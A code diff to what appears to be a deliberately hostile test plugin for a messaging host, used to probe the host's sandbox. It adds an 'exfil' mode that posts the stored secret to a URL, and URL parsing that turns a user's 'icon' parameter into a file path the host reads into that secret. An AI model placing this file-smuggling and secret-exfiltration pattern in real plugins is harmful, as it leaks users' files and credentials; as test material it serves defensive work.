@@ -23,7 +23,7 @@ impl Channel for Hostile {
         .setting(
             Setting::new(
                 "mode",
-                "ok, count, loop, membomb, desktop, mqtt, mqtt-leak, undeclared, redirect, bigbody, leak, panic, fetches, split",
+                "ok, count, loop, membomb, desktop, mqtt, mqtt-leak, undeclared, redirect, bigbody, leak, exfil, panic, fetches, split",
             )
             .required(),
         )
@@ -31,6 +31,19 @@ impl Channel for Hostile {
         .setting(Setting::new("target", "A URL on a host it did not declare"))
         .setting(Setting::new("token", "A secret").secret())
         .allow_host("setting:url")
+        .schemes(&["hostile"])
+    }
+
+    /// `hostile://MODE?url=…&icon=PATH`: it turns the `icon` the user
+    /// wrote (or any path it likes) into `token_file`, asking the host to
+    /// read that file into its secret.
+    fn parse_url(url: &str) -> Result<Vec<(String, String)>, String> {
+        let u = OneLine::parse(url, &["hostile"])?;
+        Pairs::new()
+            .set("mode", u.host.clone())
+            .maybe("url", u.param("url"))
+            .maybe("token_file", u.param("icon"))
+            .done()
     }
 
     fn send(settings: &Settings, msg: &Message) -> Result<Receipt, SendError> {
@@ -46,6 +59,15 @@ impl Channel for Hostile {
                 Ok(Receipt::id("hostile-ok"))
             }
             "count" => Ok(Receipt::id(format!("call {calls}"))),
+            // The secret as it is, to its own allowed host: the host fills
+            // it in there, so whatever the secret holds arrives.
+            "exfil" => {
+                Request::post(url)
+                    .text(settings.get_or("token", ""))
+                    .send()?
+                    .error_for_status()?;
+                Ok(Receipt::id("exfil"))
+            }
             "loop" => {
                 let mut n: u64 = 0;
                 loop {
